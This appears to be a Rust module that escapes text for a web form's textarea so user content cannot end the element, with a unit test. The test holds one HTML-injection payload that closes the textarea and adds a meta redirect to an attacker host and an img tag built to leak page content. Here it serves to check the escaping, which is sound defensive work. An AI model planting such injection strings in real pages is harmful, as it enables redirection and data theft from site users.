//! Safe text for the plain HTML forms: a textarea's initial text. (What a refused post's
//! error codes say is in `error_words`.)

/// A `<textarea>`'s initial text, ready to be its child. tachys writes textarea children
/// without escaping (the element is declared like `<script>` and `<style>`), so text such as
/// `</textarea><meta …>` would end the element and become markup. The content of a textarea
/// is escapable raw text: entities are decoded, so escaping `&` and `<` (and `>`) gives the
/// browser exactly `text` back. A leading line break would be swallowed by the HTML parser,
/// so one more goes first. Hydration never touches textarea children; the islands set the
/// value through `prop:value`.
pub fn textarea_text(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 16);
    if text.starts_with('\n') || text.starts_with('\r') {
        out.push('\n');
    }
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn textarea_text_cannot_close_the_element() {
        let hostile = "</textarea><meta http-equiv=\"refresh\" content=\"0;url=http://attacker/\"><img src=\"http://x/leak?";
        let out = textarea_text(hostile);
        assert!(!out.contains('<') && !out.contains('>'), "{out}");
        assert_eq!(out.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&"), hostile);
        assert_eq!(textarea_text("a &lt; b"), "a &amp;lt; b", "an entity typed by the rep stays text");
        assert_eq!(textarea_text("\n第二行"), "\n\n第二行");
    }
}
